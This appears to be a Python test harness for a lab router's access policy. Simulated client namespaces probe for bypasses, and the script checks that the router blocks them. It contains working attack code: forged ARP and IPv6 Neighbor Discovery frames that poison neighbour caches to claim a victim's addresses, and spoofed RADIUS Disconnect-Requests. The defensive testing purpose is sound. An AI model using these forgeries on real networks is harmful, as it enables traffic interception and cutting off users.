#!/usr/bin/env python3
"""The attacker's test: machines of every kind try to get around the router's policy.

`attack.py setup PLAN.json`: one network namespace per persona, on a macvlan of the
  client container's link to its VLAN, with the persona's own MAC; addresses from DHCP
  (Kea, after the router's advertisement for IPv6) or static; prints what each got.
`attack.py run PLAN.json PROBES.json`: every attempt of every persona (in parallel, each
  inside its namespace), compared with the plan's expected outcome; prints the table
  and exits 1 if any attempt ended otherwise than the policy says.
`attack.py persona PLAN.json PROBES.json NAME [ROW...]` (inside NAME's namespace): every
  attempt (or those of ROWs) of that persona; prints the outcomes as JSON.
`attack.py forge PLAN.json NAME SECONDS` (inside NAME's namespace): NAME claims the plan's
  poisoning victim's addresses with its own MAC (forged ARP, NA, NS, RS) for SECONDS.
`attack.py victim PLAN.json PROBES.json`: the victim's attempts of the plan's poisoning
  (while the attackers forge), as a table like run's.
`attack.py devices PLAN.json`: the plan's coa stand-ins: a namespace per device, listening
  on UDP 3799 (`attack.py listen ADDRESS PORT`, recording each datagram), and the RADIUS sender's.
`attack.py control PLAN.json PROBES.json`: the positive control: the RADIUS server's own
  requests (coa.control rows) must arrive through the router, or the listeners are deaf.

Outcomes: outside / campus / portal (reached that server), page (the quarantine page,
directly or through its redirect), ssh (an SSH banner), answer / ->page / nxdomain (a DNS
answer: the real one, the page's address, no such name), open (TCP connected), online /
captive->page / captive, no page / no network (an OS's captive-portal check), refused,
no reply, unreachable; for a CoA datagram: arrived (through the router), same link (at the
device without the router), nothing arrived. "blocked" in the plan accepts refused, no
reply, unreachable or nothing arrived.
"""
from __future__ import annotations

import http.client
import json
import os
import socket
import struct
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit

TIMEOUT = 2.0
BLOCKED = {"refused", "no reply", "unreachable", "nothing arrived"}
SELF = str(Path(__file__).resolve())


def sh(*argv: str, check: bool = True) -> str:
    return subprocess.run(argv, check=check, capture_output=True, text=True).stdout


def in_ns(persona: str, *argv: str, check: bool = True) -> str:
    return sh("ip", "netns", "exec", f"p-{persona}", *argv, check=check)


# --- setup ----------------------------------------------------------------------------


def add_namespace(persona: dict) -> None:
    """The persona's namespace, on a macvlan of its parent link (with its MAC, if it has one),
    its static addresses and IPv4 gateway."""
    name, ns, link = persona["name"], f"p-{persona['name']}", f"m-{persona['name']}"[:15]
    for pid in sh("ip", "netns", "pids", ns, check=False).split():  # a previous run's dhclient
        subprocess.run(["kill", pid], check=False)
    subprocess.run(["ip", "netns", "del", ns], check=False, capture_output=True)
    sh("ip", "netns", "add", ns)
    Path(f"/etc/netns/{ns}").mkdir(parents=True, exist_ok=True)
    Path(f"/etc/netns/{ns}/resolv.conf").write_text(f"nameserver {persona.get('resolver', '127.0.0.1')}\n")
    mac = ["address", persona["mac"]] if "mac" in persona else []
    sh("ip", "link", "add", "link", persona["parent"], "name", link, *mac, "type", "macvlan", "mode", "bridge")
    sh("ip", "link", "set", link, "netns", ns)
    in_ns(name, "ip", "link", "set", "lo", "up")
    in_ns(name, "ip", "link", "set", link, "name", "eth0")
    in_ns(name, "ip", "link", "set", "eth0", "up")
    for address in persona.get("static", []):
        in_ns(name, "ip", "address", "add", address, "dev", "eth0", "nodad")
    if "gateway4" in persona:
        in_ns(name, "ip", "route", "add", "default", "via", persona["gateway4"])


def setup_persona(persona: dict) -> dict:
    name, ns = persona["name"], f"p-{persona['name']}"
    add_namespace(persona)
    wait_for(name, lambda: "default" in in_ns(name, "ip", "-6", "route", "show", "default"), "a router advertisement")
    if persona.get("dhcp"):
        wait_for(name, lambda: "tentative" not in in_ns(name, "ip", "-6", "addr", "show", "dev", "eth0", "scope", "link"),
                 "its link-local address")
        for family in ("-4", "-6"):
            lease = f"/var/lib/dhcp/{ns}{family}.leases"
            pidfile = f"/run/dhclient-{ns}{family}.pid"
            in_ns(name, "timeout", "30", "dhclient", family, "-1", "-lf", lease, "-pf", pidfile, "eth0")
            in_ns(name, "dhclient", family, "-x", "-pf", pidfile, "eth0", check=False)  # stop it, keep the lease
    for address in persona.get("extra", {}).values():  # attempts bind these explicitly
        extra = ["nodad", "preferred_lft", "0"] if ":" in address else []
        in_ns(name, "ip", "address", "add", address, "dev", "eth0", *extra)
    lease = Path(f"/var/lib/dhcp/{ns}-4.leases")
    names = [line.split('"')[1] for line in lease.read_text().splitlines() if "option host-name" in line] if lease.exists() else []
    return {"persona": name, "addresses": in_ns(name, "ip", "-brief", "address", "show", "dev", "eth0").split()[2:],
            "host_name": names[-1] if names else "",
            "resolv.conf": Path(f"/etc/netns/{ns}/resolv.conf").read_text().split(),
            "ra": in_ns(name, "rdisc6", "-1", "-w", "1500", "eth0", check=False)}


def wait_for(persona: str, test, what: str, seconds: float = 15) -> None:
    deadline = time.monotonic() + seconds
    while not test():
        if time.monotonic() > deadline:
            raise SystemExit(f"{persona}: no {what} after {seconds} s")
        time.sleep(0.3)


# --- one attempt (inside the persona's namespace) --------------------------------------


def resolver() -> str:
    return next(line.split()[1] for line in Path("/etc/resolv.conf").read_text().splitlines() if line.startswith("nameserver"))


def gateway(family: str) -> str:
    return sh("ip", family, "route", "show", "default").split()[2]


def lookup(name: str, family: int, server: str | None = None) -> tuple[str, list[str]]:
    """(status, addresses) of a dig query: status NOERROR, NXDOMAIN, no reply or refused."""
    kind = "AAAA" if family == 6 else "A"
    out = sh("dig", f"@{server or resolver()}", name, kind, "+time=2", "+tries=1", "+noall", "+comments", "+answer", check=False)
    if "timed out" in out or "no servers could be reached" in out:
        return "no reply", []
    if "connection refused" in out:
        return "refused", []
    status = out.split("status: ")[1].split(",")[0] if "status: " in out else "?"
    records = [line.split() for line in out.splitlines() if line and not line.startswith(";")]
    return status, [fields[4] for fields in records if len(fields) == 5 and fields[2:4] == ["IN", kind]]


def failure(error: BaseException) -> str:
    if isinstance(error, (ConnectionRefusedError, ConnectionResetError)):
        return "refused"
    if isinstance(error, (TimeoutError, socket.timeout)):
        return "no reply"
    return "unreachable"


def fetch(address: str, port: int, host: str, path: str = "/", source: str | None = None) -> tuple[int, dict, str]:
    connection = http.client.HTTPConnection(address, port, timeout=TIMEOUT, source_address=(source, 0) if source else None)
    connection.request("GET", path, headers={"Host": host, "User-Agent": "campusnet-attacker-test"})
    response = connection.getresponse()
    return response.status, dict(response.getheaders()), response.read().decode("utf-8", "replace")


def classify(status: int, headers: dict, body: str, plan: dict, family: int, source: str | None) -> str:
    for outcome, marker in plan["markers"].items():
        if marker in body:
            return outcome
    if plan["page_marker"] in body:
        return "page"
    location = headers.get("Location", "")
    if 300 <= status < 400 and location:
        target = urlsplit(location)
        _, addresses = lookup(target.hostname or "", family)
        if addresses:
            status, _, body = fetch(addresses[0], target.port or 80, target.hostname or "", target.path or "/", source)
            if plan["page_marker"] in body:
                return "page"
        return "redirect elsewhere"
    return f"HTTP {status}"


def attempt_http(attempt: dict, plan: dict) -> str:
    family = 6 if ":" in attempt["target"] else 4
    try:
        status, headers, body = fetch(attempt["target"], attempt["port"], attempt.get("host", attempt["target"]),
                                      source=attempt.get("source"))
    except OSError as error:
        return failure(error)
    return classify(status, headers, body, plan, family, attempt.get("source"))


def attempt_dns(attempt: dict, plan: dict) -> str:
    kind = "AAAA" if attempt.get("family") == 6 else "A"
    out = sh("dig", f"@{attempt.get('server') or resolver()}", attempt["name"], kind, "+time=2", "+tries=1",
             *(["+tcp"] if attempt.get("tcp") else ["+notcp"]), "+noall", "+comments", "+answer", check=False)
    if "timed out" in out or "no servers could be reached" in out:
        return "no reply"
    if "connection refused" in out or "communications error" in out:
        return "refused"
    if "status: NXDOMAIN" in out:
        return "nxdomain"
    answers = {line.split()[-1] for line in out.splitlines() if line and not line.startswith(";")}
    if answers & set(plan["page_addresses"]):
        return "->page"
    return "answer" if answers else "no answer"


def attempt_tcp(attempt: dict, plan: dict) -> str:
    target = gateway("-4") if attempt["target"] == "gateway4" else attempt["target"]
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT)
        try:
            if attempt.get("source"):
                sock.bind((attempt["source"], 0))
            sock.connect((target, attempt["port"]))
            if attempt["kind"] != "ssh":
                return "open"
            return "ssh" if sock.recv(64).startswith(b"SSH-") else "open"
        except OSError as error:
            return failure(error)


def attempt_captive(attempt: dict, plan: dict, probes: dict) -> str:
    """Judge the network as the named system does (captive_probes.yml)."""
    probe = probes[attempt["system"]]
    url = urlsplit(probe["url"])
    check = probe.get("dns")
    if check:
        status, addresses = lookup(check["name"], 4)
        if check["ipv4"] not in addresses:
            return "no network"
    status, addresses = lookup(url.hostname or "", 4)
    if not addresses:
        return "no network"
    try:
        code, headers, body = fetch(addresses[0], 80, url.hostname or "", url.path)
    except OSError:
        return "no network"
    online = probe["online"]
    if code == online["status"] and body.strip() == online["body"].strip():
        return "online"
    if attempt["system"] != "apple" and not (200 <= code < 400):
        return "no network"  # Android and Windows take an error for no Internet, not a portal
    return "captive->page" if classify(code, headers, body, plan, 4, None) == "page" else "captive, no page"


# --- RADIUS dynamic authorization (RFC 5176): CoA/Disconnect requests to a device -------

COA_DIR = Path("/run/lab-coa")  # one record per device stand-in: "source TTL payload-hex" lines
IP_RECVTTL, IP_TTL = 12, 2  # <linux/in.h>; the TTL tells a routed datagram from a local one
DISCONNECT_REQUEST, USER_NAME = 40, 1


def disconnect_request(user: str) -> bytes:
    """A Disconnect-Request (code 40) for ``user`` (its User-Name), a random authenticator."""
    attribute = bytes([USER_NAME, 2 + len(user)]) + user.encode()
    return struct.pack("!BBH", DISCONNECT_REQUEST, 1, 20 + len(attribute)) + os.urandom(16) + attribute


def listen(address: str, port: int) -> None:
    """A device's CoA port: record every datagram that reaches it (inside the device's namespace)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, IP_RECVTTL, 1)
        sock.bind((address, port))
        COA_DIR.mkdir(parents=True, exist_ok=True)
        with (COA_DIR / address).open("a", buffering=1) as record:
            while True:
                data, ancillary, _, (source, _) = sock.recvmsg(4096, socket.CMSG_SPACE(4))
                ttl = next((int.from_bytes(value[:4], sys.byteorder) for _, kind, value in ancillary if kind == IP_TTL), 0)
                record.write(f"{source} {ttl} {data.hex()}\n")


def arrival(target: str, payload: bytes) -> str:
    """How the datagram carrying ``payload`` reached ``target``'s stand-in, waiting TIMEOUT."""
    deadline, wanted = time.monotonic() + TIMEOUT, payload.hex()
    while time.monotonic() < deadline:
        for line in (COA_DIR / target).read_text().splitlines():
            _, ttl, data = line.split()
            if data == wanted:
                return "same link" if int(ttl) == 64 else "arrived"
        time.sleep(0.1)
    return "nothing arrived"


def attempt_coa(attempt: dict, plan: dict) -> str:
    """A Disconnect-Request to a device's CoA port, from the persona's own or a spoofed address."""
    payload = disconnect_request(f"coa-{os.urandom(6).hex()}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        if attempt.get("source"):
            sock.bind((attempt["source"], 0))
        try:
            sock.sendto(payload, (attempt["target"], attempt["port"]))
        except OSError as error:
            return failure(error)
    return arrival(attempt["target"], payload)


def one(attempt: dict, plan: dict, probes: dict) -> str:
    kind = attempt["kind"]
    if kind == "http":
        return attempt_http(attempt, plan)
    if kind == "dns":
        return attempt_dns(attempt, plan)
    if kind in ("tcp", "ssh"):
        return attempt_tcp(attempt, plan)
    if kind == "captive":
        return attempt_captive(attempt, plan, probes)
    if kind == "coa":
        return attempt_coa(attempt, plan)
    raise SystemExit(f"unknown attempt kind {kind}")


# --- neighbour poisoning: hand-built frames (inside the attacker's namespace) ----------
# Each forgery claims a registered member's address (the victim's) with the attacker's own
# MAC, in every form the router's kernel learns a neighbour from: ARP replies, gratuitous
# ARP, an ARP request from the claimed address (arp_process), and IPv6 Neighbor
# Advertisements (target + Target Link-Layer Address option), Neighbor and Router
# Solicitations (IPv6 source + Source Link-Layer Address option).

ETH_P_ARP, ETH_P_IPV6, ICMPV6 = 0x0806, 0x86DD, 58
BROADCAST, ZERO_MAC = "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00"
NA_SOLICITED, NA_OVERRIDE = 0x40000000, 0x20000000


def mac_bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def ethernet(destination: str, source: str, ethertype: int, payload: bytes) -> bytes:
    return mac_bytes(destination) + mac_bytes(source) + struct.pack("!H", ethertype) + payload


def arp(operation: int, sender_mac: str, sender_ip: str, target_mac: str, target_ip: str) -> bytes:
    """An Ethernet/IPv4 ARP packet (1 request, 2 reply)."""
    return (struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac_bytes(sender_mac) + socket.inet_aton(sender_ip)
            + mac_bytes(target_mac) + socket.inet_aton(target_ip))


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def icmpv6(source: str, destination: str, message: bytes) -> bytes:
    """An IPv6 packet (hop limit 255, as ND requires) carrying an ICMPv6 message, checksummed."""
    src, dst = socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, destination)
    total = checksum(src + dst + struct.pack("!I3xB", len(message), ICMPV6) + message)
    message = message[:2] + struct.pack("!H", total) + message[4:]
    return struct.pack("!IHBB", 6 << 28, len(message), ICMPV6, 255) + src + dst + message


def link_layer_option(kind: int, mac: str) -> bytes:
    """A Source (1) or Target (2) Link-Layer Address option."""
    return bytes([kind, 1]) + mac_bytes(mac)


def neighbour_advert(target: str, mac: str, flags: int) -> bytes:
    return struct.pack("!BBHI", 136, 0, 0, flags) + socket.inet_pton(socket.AF_INET6, target) + link_layer_option(2, mac)


def neighbour_solicit(target: str, mac: str) -> bytes:
    return struct.pack("!BBHI", 135, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, target) + link_layer_option(1, mac)


def router_solicit(mac: str) -> bytes:
    return struct.pack("!BBHI", 133, 0, 0, 0) + link_layer_option(1, mac)


def multicast_mac(address: str) -> str:
    """The Ethernet address of an IPv6 multicast group (33:33 and its last 32 bits)."""
    return ":".join(f"{byte:02x}" for byte in b"\x33\x33" + socket.inet_pton(socket.AF_INET6, address)[-4:])


def solicited_node(address: str) -> str:
    """The solicited-node multicast group of an IPv6 address (ff02::1:ffXX:XXXX)."""
    low = socket.inet_pton(socket.AF_INET6, address)[-3:]
    return socket.inet_ntop(socket.AF_INET6, bytes.fromhex("ff0200000000000000000001ff") + low)


def forgeries(me: dict, router: dict, victim: dict) -> list[tuple[str, bytes]]:
    """(name, frame) of every forged claim of the victim's addresses with my MAC.

    me: mac, link_local; router: mac, ipv4, link_local; victim: ipv4, ipv6."""
    mac, claim4, claim6 = me["mac"], victim["ipv4"], victim["ipv6"]
    v6 = [
        ("unsolicited NA, override flag", "ff02::1", me["link_local"],
         neighbour_advert(claim6, mac, NA_OVERRIDE)),
        ("solicited NA, override flag, to the router", router["link_local"], me["link_local"],
         neighbour_advert(claim6, mac, NA_SOLICITED | NA_OVERRIDE)),
        ("NS from the claimed address", solicited_node(router["link_local"]), claim6,
         neighbour_solicit(router["link_local"], mac)),
        ("RS from the claimed address", "ff02::2", claim6, router_solicit(mac)),
    ]
    return [
        ("ARP reply to the router", ethernet(router["mac"], mac, ETH_P_ARP, arp(2, mac, claim4, router["mac"], router["ipv4"]))),
        ("gratuitous ARP request", ethernet(BROADCAST, mac, ETH_P_ARP, arp(1, mac, claim4, ZERO_MAC, claim4))),
        ("gratuitous ARP reply", ethernet(BROADCAST, mac, ETH_P_ARP, arp(2, mac, claim4, BROADCAST, claim4))),
        ("ARP request from the claimed address", ethernet(BROADCAST, mac, ETH_P_ARP, arp(1, mac, claim4, ZERO_MAC, router["ipv4"]))),
    ] + [(name, ethernet(router["mac"] if not destination.startswith("ff") else multicast_mac(destination), mac, ETH_P_IPV6,
                         icmpv6(source, destination, message)))
         for name, destination, source, message in v6]


def router_seen_from(persona: dict) -> dict:
    """The router's MAC, IPv4 gateway and link-local address, as the persona's stack knows them."""
    gateway4 = gateway("-4")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:  # makes the stack resolve the router
        sock.sendto(b"", (gateway4, 9))
    wait_for(persona["name"], lambda: "lladdr" in sh("ip", "neigh", "show", gateway4), "ARP answer from the router", 5)
    neighbours = sh("ip", "neigh", "show", gateway4).split()
    return {"ipv4": gateway4, "link_local": gateway("-6"), "mac": neighbours[neighbours.index("lladdr") + 1]}


def forge(persona: dict, victim: dict, seconds: float) -> list[str]:
    """Send every forgery from the persona's link twice a second for ``seconds`` (as an
    attacker keeps a poisoned cache poisoned); return their names."""
    link_local = sh("ip", "-6", "-brief", "address", "show", "dev", "eth0", "scope", "link").split()[2].split("/")[0]
    frames = forgeries({"mac": persona["mac"], "link_local": link_local}, router_seen_from(persona), victim)
    deadline = time.monotonic() + seconds
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        while time.monotonic() < deadline:
            for _, frame in frames:
                sock.send(frame)
            time.sleep(0.5)
    return [name for name, _ in frames]


# --- the whole run (outside the namespaces) --------------------------------------------


def resolve(attempt: dict, persona: dict) -> dict:
    """The attempt as this persona makes it: its own extra source address, if any."""
    result = dict(attempt)
    if "source" in attempt:
        result["source"] = persona["extra"][attempt["source"]].split("/")[0]
    return result


def attempts_of(persona: dict, plan: dict, probes: dict, rows: list[str]) -> dict[str, str]:
    """The attempts of one persona (those of ``rows``, or all), from inside its namespace,
    a few at a time."""
    attempts = [a for a in plan["attempts"] if not rows or a["row"] in rows]

    def attempt(row: dict) -> str:
        try:
            return one(resolve(row, persona), plan, probes)
        except Exception as error:  # noqa: BLE001 (an attempt that breaks is a result too)
            return f"error: {type(error).__name__}"

    with ThreadPoolExecutor(max_workers=8) as pool:
        return dict(zip((a["row"] for a in attempts), pool.map(attempt, attempts), strict=True))


def run(plan: dict, plan_file: str, probes_file: str, names: list[str], rows: list[str]) -> int:
    """The attempts of ``rows`` by the personas ``names``, each in its namespace; prints the
    table, returns 1 if any attempt ended otherwise than the policy says."""
    columns = [p["name"] for p in plan["personas"]]

    def execute(name: str) -> dict[str, str]:
        out = in_ns(name, "python3", SELF, "persona", plan_file, probes_file, name, *rows, check=False)
        return json.loads(out) if out.strip() else {}

    with ThreadPoolExecutor(max_workers=len(names)) as pool:
        by_persona = dict(zip(names, pool.map(execute, names), strict=True))
    table, failures = [], []
    for row in rows:
        cells = []
        for name in names:
            got, want = by_persona[name].get(row, "error"), plan["expected"][row][columns.index(name)]
            if got == want or (want == "blocked" and got in BLOCKED):
                cells.append(got)
            else:
                cells.append(f"{got} (NOT {want})")
                failures.append(f"{name}: {row}: got {got}, policy says {want}")
        table.append([row, *cells])
    widths = [max(len(row[i]) for row in [["attempt", *names], *table]) for i in range(len(names) + 1)]
    lines = [" | ".join(cell.ljust(width) for cell, width in zip(row, widths, strict=True)).rstrip()
             for row in [["attempt", *names], ["-" * w for w in widths], *table]]
    print("\n".join(lines + [""] + (failures or ["every attempt ended as the policy says"])))
    return 1 if failures else 0


def devices(coa: dict) -> list[str]:
    """The device stand-ins, each listening on its namespace's address, and the RADIUS sender's
    namespace; returns the units started."""
    units = []
    for device in coa["devices"]:
        unit, address = f"lab-{device['name']}", device["static"][0].split("/")[0]
        subprocess.run(["systemctl", "stop", unit], check=False, capture_output=True)
        add_namespace(device)
        (COA_DIR / address).unlink(missing_ok=True)
        sh("systemd-run", f"--unit={unit}", "--collect", "ip", "netns", "exec", f"p-{device['name']}",
           "python3", SELF, "listen", address, str(coa["port"]))
        wait_for(device["name"], (COA_DIR / address).exists, "listener")
        units.append(unit)
    add_namespace(coa["sender"])
    return units


def control(plan: dict, plan_file: str, probes_file: str) -> int:
    """The RADIUS server's own requests (coa.control) must arrive: else the listeners are deaf."""
    sender, rows = plan["coa"]["sender"]["name"], plan["coa"]["control"]
    got = json.loads(in_ns(sender, "python3", SELF, "persona", plan_file, probes_file, sender, *rows, check=False) or "{}")
    print("\n".join(f"{sender} | {row} | {got.get(row, 'error')}" for row in rows))
    return 0 if all(got.get(row) == "arrived" for row in rows) else 1


def main() -> int:
    """Commands: setup, run, persona (see the module's docstring); forge (inside an attacker's
    namespace: its forged neighbour claims for SECONDS); victim (the poisoning victim's
    attempts, while the attackers forge)."""
    command = sys.argv[1]
    if command == "listen":
        listen(sys.argv[2], int(sys.argv[3]))
        return 0
    plan = json.loads(Path(sys.argv[2]).read_text())
    if command == "persona":
        probes = json.loads(Path(sys.argv[3]).read_text())
        persona = next(p for p in [*plan["personas"], plan["coa"]["sender"]] if p["name"] == sys.argv[4])
        print(json.dumps(attempts_of(persona, plan, probes, sys.argv[5:])))
        return 0
    if command == "setup":
        with ThreadPoolExecutor(max_workers=len(plan["personas"])) as pool:
            print(json.dumps(list(pool.map(setup_persona, plan["personas"])), indent=1))
        return 0
    if command == "forge":
        persona = next(p for p in plan["personas"] if p["name"] == sys.argv[3])
        print(json.dumps(forge(persona, plan["poisoning"]["claims"], float(sys.argv[4]))))
        return 0
    if command == "devices":
        print(json.dumps(devices(plan["coa"])))
        return 0
    if command == "control":
        return control(plan, sys.argv[2], sys.argv[3])
    if command == "victim":
        poisoning = plan["poisoning"]
        return run(plan, sys.argv[2], sys.argv[3], [poisoning["victim"]], poisoning["after"])
    return run(plan, sys.argv[2], sys.argv[3], [p["name"] for p in plan["personas"]], [a["row"] for a in plan["attempts"]])


if __name__ == "__main__":
    sys.exit(main())
